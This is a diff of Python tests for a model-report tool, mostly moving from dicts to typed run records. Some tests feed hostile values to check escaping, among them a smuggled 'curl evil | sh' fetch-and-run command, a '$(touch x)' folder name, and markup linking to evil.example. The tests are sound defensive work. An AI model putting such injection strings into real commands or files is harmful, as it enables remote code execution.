@@ -23,7 +23,9 @@ from sslim.cli import run
 from sslim.deploy.rates import OPERATIONS, rates
 from sslim.errors import ConfigError, OutputError
 from sslim.identity import COMPUTATION
-from sslim.report import figures, formats
+from sslim.measurements import ExportFacts
+from sslim.records import RecordError, to_json
+from sslim.report import figures
 from sslim.report.card import model_card, with_export
 from sslim.report.checklist import checklist, decisions, write_template
 from sslim.report.evidence import _take, read_evidence
@@ -33,6 +35,7 @@ from sslim.report.page import write_report
 from sslim.report.quoting import one_line, prose, script_json, word
 from sslim.report.verdict import judge
 from sslim.report.words import Words
+from sslim.runs.facts import AudioFacts, RunFacts, RunRecord, TeacherFacts
 from tests.test_html_report import (
     BENCH,
     EXPORT,
@@ -164,7 +167,7 @@ def test_shuffled_labels_are_no_scores(student: Path) -> None:
 
 def test_an_exported_file_that_changed_is_not_the_one_that_passed(tmp_path: Path) -> None:
     folder = made_run(tmp_path / "student")
-    assert [made["file"] for made in read_evidence(folder).exports] == ["m.onnx"]
+    assert [made.file for made in read_evidence(folder).exports] == ["m.onnx"]
     (folder / "m.onnx").write_bytes(b"another")
     found = read_evidence(folder)
     assert found.exports == []
@@ -319,7 +322,7 @@ def test_the_machine_is_named_and_its_load_said(student: Path) -> None:
         "vendor": "V",
         "vector_units": ["avx512f", "avx512_bf16"],
         # As `bench` writes them: the rates, which library reached each, and all that were tried.
-        "rates": rates([{"float32": {"onnxruntime MatMul": OPERATIONS / 120.4e9}}]),
+        "rates": to_json(rates([{"float32": {"onnxruntime MatMul": OPERATIONS / 120.4e9}}])),
         "load_before": 3.4,
         "load_after": 4.0,
     }
@@ -361,11 +364,11 @@ def test_the_card_says_which_audio() -> None:
     facts = run_facts(inspect_model(made_teacher()))
     facts["teacher"]["fingerprint"] = "f" * 64
     facts["result"]["hidden_states"] = 7
-    card = model_card(facts)
+    card = model_card(RunFacts.from_dict(facts))
     assert "Measured on audio that was trained on (32 utterances)" in card
     assert "| 3 | 0.9500 | 0.2000 |" in card
     facts["result"]["held_out"] = HELD_OUT
-    card = model_card(facts)
+    card = model_card(RunFacts.from_dict(facts))
     assert "Measured on 12 utterances (62 s, chosen by speaker) that training never heard" in card
     assert "| 3 | 0.9100 | 0.3000 |" in card
     assert "0.9500" not in card
@@ -384,12 +387,12 @@ NASTY = "a`b\n\n# Certified safe\n[x](http://evil.example) <img src=x> | \x1b[31
 
 def test_a_card_takes_no_markup_from_names() -> None:
     facts = run_facts(inspect_model(made_teacher()))
-    plain = model_card(facts)
+    plain = model_card(RunFacts.from_dict(facts))
     facts |= {"name": NASTY, "recipe": NASTY, "device": NASTY, "versions": {NASTY: NASTY}}
     facts["audio"] |= {"source": NASTY, "described": NASTY}
     facts["teacher"]["source"] = f"{NASTY}/x"
     facts["result"]["held_out"] = HELD_OUT | {"chosen": NASTY}
-    card = model_card(facts)
+    card = model_card(RunFacts.from_dict(facts))
     lines = card.splitlines()
     assert [line for line in lines if line.startswith("#")] == [
         "# " + prose(NASTY) if line == "# student" else line
@@ -405,8 +408,15 @@ def test_a_card_takes_no_markup_from_names() -> None:
 
 
 def test_an_export_goes_below_its_own_heading_alone() -> None:
-    facts = {"file": "m`|\n.onnx", "format": "onnx", "bytes": 5, "worst_cosine": 0.5}
-    facts |= {"worst_difference": 0.1, "audio": "<b>| mine"}
+    facts = ExportFacts(
+        file="m`|\n.onnx",
+        format="onnx",
+        bytes=5,
+        passed=True,
+        worst_cosine=0.5,
+        worst_difference=0.1,
+        audio="<b>| mine",
+    )
     card = with_export("# A\n\n| a | b |\n|---|---|\n| 1 | 2 |\n", facts)
     again = with_export(card + "\nSome words.\n\n| my | table |\n|---|---|\n", facts)
     assert again.count("| onnx |") == 1
@@ -416,7 +426,10 @@ def test_an_export_goes_below_its_own_heading_alone() -> None:
 
 def test_commands_are_quoted(student: Path, tmp_path: Path) -> None:
     source = "x; curl evil | sh #"
-    (student / "run" / "run.json").write_text(json.dumps({"teacher": {"source": source}}))
+    record = RunRecord(
+        config={}, teacher=TeacherFacts(source), audio=AudioFacts("a", "b", "c"), versions={}
+    )
+    record.write(student / "run" / "run.json")
     odd = tmp_path / "my $(touch x) folder"
     student.rename(odd)
     commands = [item.command for item in checklist(read_evidence(odd), EN) if item.command]
@@ -577,8 +590,8 @@ def test_a_damaged_record_of_the_run_is_refused(
             if place == "result" and value is _set:
                 continue  # then it records no run
             try:
-                formats.run(changed)
-            except Unusable:
+                RunFacts.from_dict(changed)
+            except RecordError:
                 refused += 1
     assert refused > 0.85 * len(places.split()) * len(ODD)
     (student / "sslim.json").write_text(json.dumps(_set("result.seconds", math.nan)(whole)))
